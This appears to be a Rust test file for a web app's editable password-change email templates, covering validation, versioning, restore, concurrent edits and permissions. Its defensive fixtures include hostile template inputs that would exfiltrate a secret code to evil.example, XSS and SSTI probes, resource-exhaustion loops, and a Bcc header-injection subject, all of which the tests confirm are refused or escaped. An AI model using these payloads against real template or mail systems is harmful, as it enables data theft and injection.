//! The mails' templates: what is saved is in the next mail, what could not be sent is refused with its line, nothing that was
//! written is ever lost, and no template loses a mail.

use crate::support::{
    app::{PASSWORD, TestApp, caller},
    smtp::{Stage, Trouble},
};
use app::{
    api::{ApiError, Change, ErrorCode, Messages, Problem, Templates, Thing},
    model::{
        AuditEntry, AuditQuery, Comparison, LineChange, Locale, MessageQuery, MessageState, Outcome, RestoreTemplate, Role,
        SaveTemplate, Span, TemplateKey, TemplateQuery, TemplateState, TemplateText, TemplateView, TryTemplate, UserId,
        VersionOrigin,
    },
    rules::templates::{TemplateFlaw, TemplateProblem},
};
use futures_util::future::join_all;
use latchkey::{mail::builtin_text, store::Db};
use sqlx::Executor;

on_both_engines!(
    what_is_saved_is_in_the_next_mail_of_that_language_and_no_other,
    whatever_could_not_be_sent_is_refused_with_its_line,
    templates_that_attack_are_refused,
    names_stay_values,
    every_save_is_kept_compared_and_brought_back,
    a_reset_is_a_version_too,
    the_second_of_two_editors_is_told_who_saved_what,
    of_many_who_save_at_once_one_wins,
    a_test_sends_what_stands_in_the_editor,
    a_test_that_the_mail_server_refuses_says_so,
    a_template_that_breaks_loses_no_mail_and_is_told,
    a_template_that_lost_its_link_is_not_sent,
    only_administrators_change_templates_and_auditors_read_them,
);

const LINK: TemplateKey = TemplateKey::PasswordChangeLink;

async fn view(app: &TestApp, ada: UserId, key: TemplateKey, language: Locale) -> TemplateView {
    app.desk.template(&caller(ada, Role::Administrator), key, language).await.unwrap()
}

/// Saves the text in use with some words replaced in HTML and text.
async fn save(app: &TestApp, ada: UserId, key: TemplateKey, language: Locale, words: (&str, &str)) -> Result<i64, ApiError> {
    let TemplateView { version, text, .. } = view(app, ada, key, language).await;
    let text = TemplateText { html: text.html.replace(words.0, words.1), text: text.text.replace(words.0, words.1), ..text };
    app.desk.save_template(&caller(ada, Role::Administrator), SaveTemplate { key, language, version, text }).await
}

/// Tries to save the built-in text with one part changed, and answers why it was refused.
async fn refused(app: &TestApp, ada: UserId, change: impl FnOnce(&mut TemplateText)) -> (String, TemplateFlaw) {
    let mut text = builtin_text(LINK, Locale::En);
    change(&mut text);
    let request = SaveTemplate { key: LINK, language: Locale::En, version: 0, text: text.clone() };
    let error = app.desk.save_template(&caller(ada, Role::Administrator), request).await.expect_err(&text.html);
    assert_eq!(error.fields.len(), 1, "{error:?}");
    let found = error.fields.into_iter().next().unwrap();
    match found.problem {
        Problem::Template(flaw) => (found.field, flaw),
        other => panic!("{other:?}"),
    }
}

async fn trail(app: &TestApp, ada: UserId, action: &str) -> Vec<AuditEntry> {
    let query = AuditQuery { action: action.to_owned(), ..AuditQuery::default() };
    app.desk.audit(&caller(ada, Role::Administrator), query).await.unwrap().items
}

use app::api::House as _;

async fn what_is_saved_is_in_the_next_mail_of_that_language_and_no_other(app: TestApp) {
    let ada = app.person("ada", Role::Administrator).await;
    let greta = app.add("greta", |user| user.language = Locale::De).await;
    let jonas = app.person("jonas", Role::User).await;
    assert_eq!(save(&app, ada, LINK, Locale::De, ("Guten Tag", "Grüß Gott")).await, Ok(1));
    app.send_link(ada, greta).await.unwrap();
    app.send_mail().await;
    let mail = app.sink.nth(1).await;
    assert!(mail.text.contains("Grüß Gott greta Feld") && mail.html.contains("Grüß Gott <bdi>greta Feld</bdi>"), "{}", mail.text);
    assert!(mail.html.contains(mail.link()) && mail.html.contains("Northwind") && !mail.html.contains("<tbody>x"));
    app.send_link(ada, jonas).await.unwrap();
    app.send_mail().await;
    assert!(app.sink.nth(2).await.text.contains("Hello jonas Feld"));

    let rows = app.desk.templates(&caller(ada, Role::Auditor)).await.unwrap();
    let row = rows.iter().find(|row| row.key == LINK).unwrap();
    assert_eq!(row.languages, [(Locale::En, TemplateState::Behind), (Locale::De, TemplateState::Changed)]);
    let (by, when) = row.changed.clone().unwrap();
    assert_eq!((by.as_str(), when.short.as_str()), ("Ada Reyes", "now"));
    assert!(rows.iter().filter(|row| row.key != LINK).all(|row| row.changed.is_none()), "{rows:?}");
    assert_eq!(trail(&app, ada, "template.saved").await.len(), 1);
}

async fn whatever_could_not_be_sent_is_refused_with_its_line(app: TestApp) {
    use TemplateProblem::{Expression, Html, InTag, Lines, Missing, Nesting, NotInSubject, Tag, Unclosed, Unknown};
    let ada = app.person("ada", Role::Administrator).await;
    let at = |line, problem| TemplateFlaw { line, problem };
    let name = str::to_owned;
    let html = async |more: &str| refused(&app, ada, |text| text.html.insert_str(0, more)).await.1;
    assert_eq!(html("<p>a</p>\n{{ nobody }}").await, at(2, Unknown(name("nobody"))));
    assert_eq!(html("\n\n{{ link\n").await.line, 3);
    assert_eq!(html("\n{% if code %}").await, at(2, Unclosed));
    assert_eq!(html("{% for a in code %}{% endfor %}").await, at(1, Tag(name("for"))));
    assert_eq!(html("{{ user_name|upper }}").await, at(1, Expression(name("user_name|upper"))));
    assert_eq!(html("<p>a</p>\n<script>x</script>").await, at(2, Html(name("<script>"))));
    assert_eq!(html("<p onclick=\"x\">a</p>").await, at(1, Html(name("onclick=\"x\""))));
    assert_eq!(html("<p title=\"{{ user_name }}\">a</p>").await, at(1, InTag(name("user_name"))));
    assert_eq!(html("\n</td></tr></table>\n").await, at(2, Nesting(name("</td>"))));

    let without = |part: fn(&mut TemplateText) -> &mut String, words: &'static str| {
        refused(&app, ada, move |text| {
            let part = part(text);
            *part = part.replace(words, "");
        })
    };
    assert_eq!(without(|text| &mut text.text, "{{ link }}").await, (name("text"), at(0, Missing(name("link")))));
    assert_eq!(without(|text| &mut text.text, "{{ expires_at }}").await, (name("text"), at(0, Missing(name("expires_at")))));
    assert_eq!(without(|text| &mut text.html, "{{ user_name }}").await, (name("html"), at(0, Missing(name("user_name")))));
    let only_sometimes = refused(&app, ada, |text| {
        text.text = text.text.replace("{{ link }}", "{% if requested_by %}{{ link }}{% endif %}");
    });
    assert_eq!(only_sometimes.await, (name("text"), at(0, Missing(name("link")))));
    let secret = refused(&app, ada, |text| text.subject.push_str("{{ code }}"));
    assert_eq!(secret.await, (name("subject"), at(1, NotInSubject(name("code")))));
    let lines = refused(&app, ada, |text| text.subject.push_str("\r\nBcc: a@b.example"));
    assert_eq!(lines.await, (name("subject"), at(2, Lines)));
    assert_eq!(view(&app, ada, LINK, Locale::En).await.version, 0, "nothing was saved");

    let german = app::words::Words::of(Locale::De);
    let (_, flaw) = refused(&app, ada, |text| text.html.insert_str(0, "\n{{ nobody }}")).await;
    assert!(Problem::Template(flaw).text(german).starts_with("Zeile 2: Diese Vorlage hat keine Variable „nobody“."));
}

async fn templates_that_attack_are_refused(app: TestApp) {
    let ada = app.person("ada", Role::Administrator).await;
    for attack in [
        "{% for a in user_name * 99999 %}{% for b in user_name * 99999 %}{{ a }}{% endfor %}{% endfor %}",
        "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
        "{% include 'body.txt' %}",
        "{% import 'layout.html' as l %}",
        "{% extends 'layout.html' %}",
        "{% set x = user_name * 99999999 %}",
        "{% autoescape false %}{{ user_name }}{% endautoescape %}",
        "{% raw %}{{ link }}{% endraw %}",
        "{{ user_name * 999999999 }}",
        "{{ 'x' * 999999999 }}",
        "{{ range(999999999) }}",
        "{{ [1] * 999999999 }}",
        "{{ user_name|safe }}",
        "{{ self }}",
        "{{ link.__class__ }}",
        "{{ {{ link }} }}",
        "<p style=\"background-image: url(https://evil.example/?{{ code }})\">a</p>",
        "<a href=\"https://evil.example/?{{ code }}\">a</a>",
        "<a href=\"javascript:alert(1)\">a</a>",
        "<img src=\"https://evil.example/p.gif\" alt=\"\">",
        "<form action=\"https://evil.example\"></form>",
        "<base href=\"https://evil.example\">",
        "<meta http-equiv=\"refresh\" content=\"0\">",
        "<svg onload=\"x\"></svg>",
        "<!-- [if mso]> x <![endif] -->",
        "<style>.card { display: none }</style>",
    ] {
        let (field, _) = refused(&app, ada, |text| text.html.insert_str(0, attack)).await;
        assert_eq!(field, "html", "{attack}");
    }
    let long = "x".repeat(10_001);
    let text = TemplateText { html: long.clone(), text: long.clone(), subject: long };
    let request = SaveTemplate { key: LINK, language: Locale::En, version: 0, text };
    let error = app.desk.save_template(&caller(ada, Role::Administrator), request).await.unwrap_err();
    assert_eq!(error.fields.len(), 3, "{error:?}");
}

async fn names_stay_values(app: TestApp) {
    let ada = app.person("ada", Role::Administrator).await;
    let mallory = app
        .add("mallory", |user| {
            "<img src=x onerror=alert(1)> {{ link }} {% for a in code %} \" onclick=x".clone_into(&mut user.display_name);
        })
        .await;
    let mut text = builtin_text(LINK, Locale::En);
    "For {{ display_name }} of {{ organisation }}".clone_into(&mut text.subject);
    let request = SaveTemplate { key: LINK, language: Locale::En, version: 0, text };
    app.desk.save_template(&caller(ada, Role::Administrator), request).await.unwrap();
    app.send_link(ada, mallory).await.unwrap();
    app.send_mail().await;
    let mail = app.sink.nth(1).await;
    assert!(mail.subject.starts_with("For <img src=x onerror=alert(1)> {{ link }} {% for"), "{}", mail.subject);
    assert!(mail.html.contains("&lt;img src=x onerror=alert(1)&gt; {{ link }}"), "{}", mail.html);
    assert!(!mail.html.contains("<img") && mail.text.contains("{{ link }} {% for"), "{}", mail.text);
    assert_eq!(mail.html.matches("href=").count(), 1);
    assert_eq!(mail.header("Bcc"), None);
}

async fn every_save_is_kept_compared_and_brought_back(app: TestApp) {
    let ada = app.person("ada", Role::Administrator).await;
    let admin = caller(ada, Role::Administrator);
    save(&app, ada, LINK, Locale::En, ("Hello", "Dear")).await.unwrap();
    app.clock.advance(Span::minutes(5));
    save(&app, ada, LINK, Locale::En, ("Dear", "Good day")).await.unwrap();
    assert_eq!(save(&app, ada, LINK, Locale::En, ("nothing of that", "x")).await, Ok(2), "the same words are no version");

    let query = TemplateQuery { key: LINK, language: Locale::En, compare: None };
    let history = app.desk.template_history(&admin, query).await.unwrap();
    let kept: Vec<_> = history.versions.iter().map(|version| (version.version, version.by.as_str(), version.origin)).collect();
    assert_eq!(kept, [(2, "Ada Reyes", VersionOrigin::Saved), (1, "Ada Reyes", VersionOrigin::Saved)]);
    let Comparison { from, to, parts } = history.comparison.unwrap();
    assert_eq!((from, to, parts.len()), (1, 2, 2), "the subject is the same");
    let (field, lines) = &parts[1];
    assert_eq!(field, "text");
    assert_eq!(lines[0], (LineChange::Removed, "Dear {{ display_name }},".to_owned()));
    assert_eq!(lines[1], (LineChange::Added, "Good day {{ display_name }},".to_owned()));
    assert!(lines[2..].iter().all(|(change, _)| *change == LineChange::Same));
    let with_builtin = app.desk.template_history(&admin, TemplateQuery { compare: Some((0, 2)), ..query }).await.unwrap();
    assert_eq!(with_builtin.comparison.unwrap().parts[1].1[0].1, "Hello {{ display_name }},");
    let unknown = app.desk.template_history(&admin, TemplateQuery { compare: Some((1, 9)), ..query }).await.unwrap_err();
    assert_eq!(unknown.problem, Problem::NotFound(Thing::TemplateVersion));

    let back = RestoreTemplate { key: LINK, language: Locale::En, version: 2, to: 1 };
    assert_eq!(app.desk.restore_template(&admin, back).await, Ok(3));
    let now = view(&app, ada, LINK, Locale::En).await;
    assert!(now.text.text.starts_with("Dear") && now.version == 3);
    let history = app.desk.template_history(&admin, query).await.unwrap();
    assert_eq!(history.versions[0].origin, VersionOrigin::Restored(1));
    assert_eq!(history.versions.len(), 3, "nothing is lost by going back");
    let stale = app.desk.restore_template(&admin, back).await.unwrap_err();
    assert!(matches!(stale.problem, Problem::ChangedMeanwhile(Some(_), _)), "{stale:?}");
}

async fn a_reset_is_a_version_too(app: TestApp) {
    let (ada, jonas) = (app.person("ada", Role::Administrator).await, app.person("jonas", Role::User).await);
    let admin = caller(ada, Role::Administrator);
    let reset = |version| RestoreTemplate { key: LINK, language: Locale::En, version, to: 0 };
    assert_eq!(app.desk.restore_template(&admin, reset(0)).await, Ok(0), "there is nothing to reset");
    save(&app, ada, LINK, Locale::En, ("Hello", "Dear")).await.unwrap();
    assert_eq!(app.desk.restore_template(&admin, reset(1)).await, Ok(2));
    let now = view(&app, ada, LINK, Locale::En).await;
    assert_eq!(now.text, builtin_text(LINK, Locale::En));
    assert!(now.languages.iter().all(|(_, state)| *state == TemplateState::BuiltIn));
    app.send_link(ada, jonas).await.unwrap();
    app.send_mail().await;
    assert!(app.sink.nth(1).await.text.contains("Hello jonas Feld"));
    assert_eq!(app.desk.restore_template(&admin, RestoreTemplate { version: 2, to: 1, ..reset(2) }).await, Ok(3));
    assert_eq!(trail(&app, ada, "template.restored").await.len(), 2);
}

async fn the_second_of_two_editors_is_told_who_saved_what(app: TestApp) {
    let (ada, ben) = (app.person("ada", Role::Administrator).await, app.person("ben", Role::Administrator).await);
    let before = view(&app, ben, LINK, Locale::En).await;
    save(&app, ada, LINK, Locale::En, ("Hello", "Dear")).await.unwrap();
    let text = TemplateText { subject: "Read this".to_owned(), ..before.text };
    let request = SaveTemplate { key: LINK, language: Locale::En, version: before.version, text };
    let mut second = caller(ben, Role::Administrator);
    "Ben".clone_into(&mut second.display_name);
    let error = app.desk.save_template(&second, request.clone()).await.unwrap_err();
    let change = |field: &str, now: &str| Change { field: field.to_owned(), now: now.to_owned() };
    // The subject is what the second changed.
    let theirs = vec![change("html", "<p>Dear <bdi>{{ display_name }}</bdi>,</p>"), change("text", "Dear {{ display_name }},")];
    assert_eq!(error.problem, Problem::ChangedMeanwhile(Some("Ada Reyes".to_owned()), theirs));
    assert!(error.text(second.words()).contains("HTML is now “<p>Dear <bdi>{{ display_name }}</bdi>,</p>”"));
    let on_purpose = SaveTemplate { version: 1, ..request };
    assert_eq!(app.desk.save_template(&second, on_purpose).await, Ok(2));
    assert_eq!(view(&app, ada, LINK, Locale::En).await.saved.unwrap().0, "Ben");
}

async fn of_many_who_save_at_once_one_wins(app: TestApp) {
    let ada = app.person("ada", Role::Administrator).await;
    let saves = (0..8).map(|n| {
        let (desk, mut text) = (app.desk.clone(), builtin_text(LINK, Locale::En));
        text.subject = format!("Number {n}");
        let request = SaveTemplate { key: LINK, language: Locale::En, version: 0, text };
        tokio::spawn(async move { desk.save_template(&caller(ada, Role::Administrator), request).await })
    });
    let done: Vec<_> = join_all(saves).await.into_iter().map(Result::unwrap).collect();
    assert_eq!(done.iter().filter(|save| save.is_ok()).count(), 1);
    let told = |error: &ApiError| matches!(error.problem, Problem::ChangedMeanwhile(Some(_), _));
    assert!(done.iter().filter_map(|save| save.as_ref().err()).all(told), "{done:?}");
}

async fn a_test_sends_what_stands_in_the_editor(app: TestApp) {
    let ada = app.person("ada", Role::Administrator).await;
    let admin = caller(ada, Role::Administrator);
    let mut text = builtin_text(LINK, Locale::De);
    text.text = text.text.replace("Guten Tag", "Servus");
    let request = TryTemplate { key: LINK, language: Locale::De, text };
    let tested = app.desk.try_template(&admin, request.clone()).await.unwrap();
    assert_eq!(tested.to, "ada@northwind.example");
    assert!(tested.reply.starts_with("250 "), "{}", tested.reply);
    let mail = app.sink.nth(1).await;
    assert!(mail.text.contains("Servus ada Feld") && mail.html.contains("Guten Tag"), "{}", mail.text);
    assert!(mail.link().ends_with("/0123456789ABCDEFGHJKMNPQRS"), "a link that leads nowhere");
    assert_eq!(view(&app, ada, LINK, Locale::De).await.version, 0, "nothing was saved");
    assert_eq!(app.desk.try_template(&admin, request.clone()).await.unwrap_err().problem, Problem::HeldBack(10));
    let mut broken = request;
    broken.text.html.push_str("{{ nobody }}");
    app.clock.advance(Span::seconds(10));
    assert!(app.desk.try_template(&admin, broken).await.unwrap_err().for_field("html").is_some());
    assert_eq!(app.sink.received().len(), 1);
    assert_eq!(trail(&app, ada, "template.tested").await.len(), 1);
}

async fn a_test_that_the_mail_server_refuses_says_so(app: TestApp) {
    let ada = app.person("ada", Role::Administrator).await;
    app.sink.trouble(Stage::Rcpt, Trouble::Reply("550 5.7.1 Not for you"));
    let request = TryTemplate { key: LINK, language: Locale::En, text: builtin_text(LINK, Locale::En) };
    let error = app.desk.try_template(&caller(ada, Role::Administrator), request).await.unwrap_err();
    assert_eq!(error.problem, Problem::MailRefused("550 5.7.1 Not for you".to_owned()));
    assert_eq!(trail(&app, ada, "template.tested").await[0].outcome, Outcome::Failed);
}

/// Changes what was saved behind Latchkey's back, as a newer version with other rules might find it.
async fn spoil(app: &TestApp, words: &str) {
    let sql = format!("UPDATE template_versions SET body = '{words}'");
    match &app.db {
        Db::Sqlite { write, .. } => write.execute(sqlx::AssertSqlSafe(sql)).await.map(drop).unwrap(),
        Db::Postgres(pool) => pool.execute(sqlx::AssertSqlSafe(sql)).await.map(drop).unwrap(),
    }
}

async fn a_template_that_breaks_loses_no_mail_and_is_told(app: TestApp) {
    let (ada, jonas) = (app.person("ada", Role::Administrator).await, app.person("jonas", Role::User).await);
    save(&app, ada, LINK, Locale::En, ("Hello", "Dear")).await.unwrap();
    spoil(&app, "{{ link }}\n{{ of_another_time }}").await;
    for _ in 0..2 {
        app.send_link(ada, jonas).await.unwrap();
        app.send_mail().await;
    }
    assert!(app.sink.nth(1).await.text.contains("Hello jonas Feld"), "the built-in words");
    assert!(app.sink.nth(2).await.text.contains("Hello jonas Feld"));
    let messages = app.desk.messages(&caller(ada, Role::Administrator), MessageQuery::default()).await.unwrap();
    assert!(messages.items.iter().all(|message| message.state == MessageState::Sent));
    let broken = view(&app, ada, LINK, Locale::En).await;
    assert_eq!(broken.languages[0], (Locale::En, TemplateState::Broken));
    assert!(broken.breakage.unwrap().why.starts_with("body.txt, line 2: undefined value"));
    let lines = trail(&app, ada, "template.broke").await;
    assert_eq!((lines.len(), lines[0].outcome), (1, Outcome::Failed), "said once for each version");

    let text = builtin_text(LINK, Locale::En);
    let repaired = SaveTemplate { key: LINK, language: Locale::En, version: 1, text };
    app.desk.save_template(&caller(ada, Role::Administrator), repaired).await.unwrap();
    assert_eq!(view(&app, ada, LINK, Locale::En).await.languages[0].1, TemplateState::Changed);
}

async fn a_template_that_lost_its_link_is_not_sent(app: TestApp) {
    let (ada, jonas) = (app.person("ada", Role::Administrator).await, app.person("jonas", Role::User).await);
    save(&app, ada, LINK, Locale::En, ("Hello", "Dear")).await.unwrap();
    spoil(&app, "Dear {{ user_name }}").await;
    app.send_link(ada, jonas).await.unwrap();
    app.send_mail().await;
    let mail = app.sink.nth(1).await;
    assert!(mail.text.contains("Hello jonas Feld") && mail.link().contains("/change-password/"), "{}", mail.text);
    assert_eq!(trail(&app, ada, "template.broke").await.len(), 1);
}

async fn only_administrators_change_templates_and_auditors_read_them(app: TestApp) {
    let ada = app.person("ada", Role::Administrator).await;
    let text = builtin_text(LINK, Locale::En);
    let request = SaveTemplate { key: LINK, language: Locale::En, version: 0, text: text.clone() };
    let restore = RestoreTemplate { key: LINK, language: Locale::En, version: 0, to: 0 };
    let trial = TryTemplate { key: LINK, language: Locale::En, text };
    for role in [Role::User, Role::HelpDesk, Role::Auditor] {
        let other = caller(ada, role);
        let refusals = [
            app.desk.save_template(&other, request.clone()).await.unwrap_err(),
            app.desk.restore_template(&other, restore).await.unwrap_err(),
            app.desk.try_template(&other, trial.clone()).await.unwrap_err(),
        ];
        assert!(refusals.iter().all(|error| error.code() == ErrorCode::Forbidden), "{role}: {refusals:?}");
    }
    let help_desk = app.desk.template(&caller(ada, Role::HelpDesk), LINK, Locale::En).await.unwrap_err();
    assert_eq!(help_desk.code(), ErrorCode::Forbidden);
    assert!(!app.desk.template(&caller(ada, Role::Auditor), LINK, Locale::En).await.unwrap().can_edit);
    assert!(app.sink.received().is_empty());
    let refused = trail(&app, ada, "template.").await;
    assert_eq!(refused.iter().filter(|line| line.outcome == Outcome::Refused).count(), 9, "three roles tried three things");
    app.signed_in("ada", PASSWORD).await;
}
